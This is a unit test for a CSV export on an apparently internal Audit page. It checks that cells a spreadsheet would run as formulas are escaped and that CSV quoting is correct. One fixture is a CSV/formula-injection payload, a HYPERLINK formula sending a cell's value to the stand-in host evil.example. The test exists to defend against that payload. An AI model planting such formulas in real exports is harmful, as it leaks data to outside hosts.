import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../renderer/features/audit/csv.js';

describe("the Audit page's CSV export", () => {
  it('keeps cells a spreadsheet would evaluate as text, and quotes what CSV needs quoted', () => {
    const csv = toCsv({
      columns: ['tool_name', 'reason'],
      rows: [
        { tool_name: '=HYPERLINK("http://evil.example/?"&A1,"open")', reason: '+1' },
        { tool_name: '-2+3', reason: '@SUM(A1)' },
        { tool_name: '\t=1', reason: 'line one\nline two' },
        { tool_name: 'read_file', reason: null },
        { tool_name: { nested: '=1' }, reason: 'say "hi", then go' },
      ],
    } as never);
    expect(csv.split('\r\n')).toEqual([
      'tool_name,reason',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'+1`,
      `'-2+3,'@SUM(A1)`,
      `'\t=1,"line one\nline two"`,
      'read_file,',
      `"{""nested"":""=1""}","say ""hi"", then go"`,
      '',
    ]);
  });
});
